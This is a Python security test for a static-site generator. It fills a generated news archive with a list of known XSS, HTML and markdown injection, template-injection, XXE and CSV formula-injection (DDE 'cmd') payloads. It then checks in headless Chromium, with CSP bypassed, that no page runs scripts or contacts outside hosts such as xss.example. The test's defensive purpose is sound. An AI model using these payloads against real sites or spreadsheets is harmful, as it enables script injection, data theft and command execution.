"""Builds a chronicle that strangers filled with the strings that are known to pass filters, opens every page in
Chromium with the pages' own policy switched off, and says what runs, leaves the site or breaks; ends with 1 where
anything does.

    hostile.py CHRONICLE        the program
"""

import csv
import json
import pathlib
import shutil
import subprocess
import sys
import tempfile

import feedparser
import icalendar
from playwright.sync_api import sync_playwright

STRINGS = r'''
<script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/xss src=//xss.example/x.js></script>
<SCRIPT/SRC="//xss.example/x.js"></SCRIPT>
<<script>alert(1);//<</script>
<script>alert(1)
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<img src=x onerror=alert(1)//
<img """><script>alert(1)</script>">
<img src=javascript:alert(1)>
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<img src="jav&#x09;ascript:alert(1);">
<img src=" &#14; javascript:alert(1);">
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert&lpar;1&rpar;</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<iframe src=javascript:alert(1)>
<iframe srcdoc="<script>parent.alert(1)</script>">
<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>
<form action=javascript:alert(1)><input type=submit>
<button formaction=javascript:alert(1)>x</button>
<isindex type=image src=1 onerror=alert(1)>
<link rel=stylesheet href=//xss.example/x.css>
<style>@import'//xss.example/x.css';</style>
<style>body{display:none}</style>
<div style="width:expression(alert(1))">x</div>
<div style="background:url(//xss.example/x.png)">x</div>
<base href=//xss.example/>
<meta http-equiv=refresh content="0;url=//xss.example/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<a href=javascript:alert(1)>x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<xmp><p title="</xmp><svg/onload=alert(1)>">
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;
" onmouseover="alert(1)" autofocus onfocus="alert(1)
' onmouseover='alert(1)' autofocus onfocus='alert(1)
` onclick=alert(1) x=`
" style="position:fixed;inset:0;background:red
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript://%0aalert(1)
vbscript:msgbox(1)
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
[x](javascript:alert(1))
[x](<javascript:alert(1)>)
[x](JaVaScRiPt&colon;alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
![x](javascript:alert(1))
![x](x" onerror="alert(1))
[x](x "y" onmouseover="alert(1)")
<javascript:alert(1)>
[x]: javascript:alert(1)
`</code><script>alert(1)</script>`
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert(1)//>\x3e
{{constructor.constructor('alert(1)')()}}
{{{site.title}}}{{#each}}
${alert(1)}
<%= alert(1) %>
\";alert(1);//
\u003cscript\u003ealert(1)\u003c/script\u003e
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
=HYPERLINK("//xss.example/","x")
=cmd|' /C calc'!A0
+1+cmd|' /C calc'!A0
-1+1+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
'''.strip().split("\n")
faults = []


def fill(folder):
    """Writes a chronicle that has each string in every field."""
    def write(path, text):
        target = folder / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)

    def front(**fields):
        return "---\n" + "".join(f"{key}: {json.dumps(value)}\n" for key, value in fields.items()) + "---\n"

    every = " ".join(STRINGS[:6])
    write("chronicle.yml", "".join(f"{key}: {json.dumps(value)}\n" for key, value in {
        "title": "Talks " + every, "description": every, "author": every,
        "sources": [{"name": f"Paper {number} {text}", "policy": "full"} for number, text in enumerate(STRINGS)]}.items()))
    write("content/corrections.yml", "".join(
        f"- date: 2008-01-01\n  what: {json.dumps(text)}\n  why: {json.dumps(text)}\n  article: a{number}\n"
        for number, text in enumerate(STRINGS)))
    for number, text in enumerate(STRINGS):
        day = f"2008-{number % 12 + 1:02}-{number % 28 + 1:02}"
        offices = [{"title": f"Envoy {text}", "short": f"E {text}", "country": text, "from": "2007"}]
        write(f"content/people/p{number}.md", front(
            name=f"Anna L{number} {text}", family=f"L{number} {text}", native=f"안나 {text}", aliases=[f"A{number} {text}"],
            offices=offices) + f"Words {text}\n\n{text}\n")
        write(f"content/events/e{number}.md", front(
            title=f"Event {number} {text}", date=day, place=f"Place {text}", aliases=[f"the {number} {text}"],
            people=[f"p{number}"]) + f"Words {text}\n\n{text}\n")
        write(f"content/pages/page{number}.md", front(title=f"Page {number} {text}") + f"Words {text}\n\n{text}\n")
        write(f"content/articles/a{number}.md", front(
            title=f"{text} {number}", subtitle=text, date=day, dateline=text, agency=text, byline=[text, "B " + text],
            source={"name": f"Paper {number} {text}", "url": text, "clipping": text, "sha256": text},
            dating=[text], people=[f"Bo {number} {text}"], places=[f"Rome {text}"],
            meetings=[{"who": [f"p{number}", "mario-conti"], "date": day, "place": f"Rome {text}", "status": "held"}])
            + f"[Anna {number}](person:p{number}) met [Mario Conti](person:mario-conti) in [Rome](place:rome). "
            + f"[{text}](person:p{number}) {text}\n\n{text}\n\n## {text}\n\n- {text}\n\n> {text}\n")
        name = text.replace("/", "_")[:80]
        write(f"content/clippings/{name}{number}.txt",
              f"{text}\n\nVIENNA, March 4, 2008 ({text}) -- Envoy {text} said on Tuesday that talks number {number} on "
              f"{text} would go on, and officials of both sides agreed with what was said.\n\nBy {text}\n")


def check_files(site):
    for path in site.rglob("*.csv"):
        for row in list(csv.reader(path.open(newline="")))[1:]:
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    faults.append(f"{path.name} has a formula: {cell[:60]}")
    for path in site.rglob("*.json"):
        json.loads(path.read_text())
    for path in [site / "feed.xml", *site.glob("people/*.xml")]:
        if feedparser.parse(str(path)).bozo:
            faults.append(f"{path.name} is no feed")
    events = icalendar.Calendar.from_ical((site / "calendar.ics").read_bytes()).walk("VEVENT")
    if not events:
        faults.append("the calendar has no events")


def check_pages(site, browser):
    root = site.as_uri() + "/"
    context = browser.new_context(bypass_csp=True, viewport={"width": 390, "height": 800})
    page = context.new_page()
    here = lambda: page.url[len(root):]
    page.on("dialog", lambda dialog: (faults.append(f"{here()} runs a script"), dialog.dismiss()))
    page.on("pageerror", lambda error: faults.append(f"{here()} fails: {error}"))
    page.on("request", lambda request: None if request.url.startswith((root, "data:"))
            else faults.append(f"{here()} asks for {request.url[:80]}"))
    days = sorted(site.glob("[0-9]*/**/*.html"))
    pages = sorted(set(site.rglob("*.html")) - set(days)) + days[::8]
    for path in pages:
        page.goto(path.as_uri())
        leads_on = "refresh" in path.read_text()[:400]
        if leads_on:
            # Else it would go on in the middle of the next page.
            page.wait_for_url(lambda url: url != path.as_uri())
        state = page.evaluate("""() => {
            for (const part of document.querySelectorAll("details")) part.open = true;
            for (const part of document.querySelectorAll("body *"))
                for (const kind of ["mouseover", "click", "focus"])
                    if (!part.closest("a, form")) part.dispatchEvent(new Event(kind));
            const tags = [...document.querySelectorAll(
                "script:not([src]):not([type='application/ld+json']), iframe, object, embed, base, style, [onerror], " +
                "[onload], [onfocus], [onclick], [onmouseover], [style], [srcdoc], [formaction]")].map(tag => tag.outerHTML.slice(0, 80));
            const links = [...document.querySelectorAll("[href], [src], [action]")].flatMap(tag =>
                ["href", "src", "action"].map(name => tag[name])).map(link => link?.baseVal ?? link)
                .filter(link => /^(javascript|vbscript|data:text.html)/i.test(link ?? ""));
            for (const script of document.querySelectorAll("script[type='application/ld+json']")) JSON.parse(script.textContent);
            return { tags, links, isWhole: !!document.querySelector("body > main") && !!document.querySelector("body > footer:last-child")
                && getComputedStyle(document.querySelector("main")).display !== "none",
                wide: document.documentElement.scrollWidth - innerWidth }; }""") if not leads_on else {}
        for tag in state.get("tags", []) + state.get("links", []):
            faults.append(f"{path.relative_to(site)} has {tag}")
        if state and not state["isWhole"]:
            faults.append(f"{path.relative_to(site)} is broken")
        if state and state["wide"] > 0:
            faults.append(f"{path.relative_to(site)} is {state['wide']} pixels too wide")
    for text in STRINGS[::8]:
        page.goto(root + "search.html")
        page.locator("#q").fill(text)
        page.wait_for_function("document.getElementById('found').textContent")
    return len(pages)


with tempfile.TemporaryDirectory() as place:
    folder = pathlib.Path(place).resolve()
    fill(folder)
    run = subprocess.run([sys.argv[1], "build", folder, "--quiet"], capture_output=True, text=True)
    if not (folder / "public/index.html").exists():
        sys.exit("the chronicle of hostile texts is not built:\n" + "\n".join([line for line in run.stderr.splitlines() if "error:" in line][:20]))
    check_files(folder / "public")
    with sync_playwright() as playwright:
        program = shutil.which("chromium") or shutil.which("chromium-browser")
        browser = playwright.chromium.launch(executable_path=program, args=["--no-sandbox"])
        count = check_pages(folder / "public", browser)
        browser.close()
for fault in faults[:60]:
    print(fault)
print(f"{len(faults)} faults" if faults else f"none of {len(STRINGS)} hostile strings runs or breaks one of {count} pages")
sys.exit(1 if faults else 0)
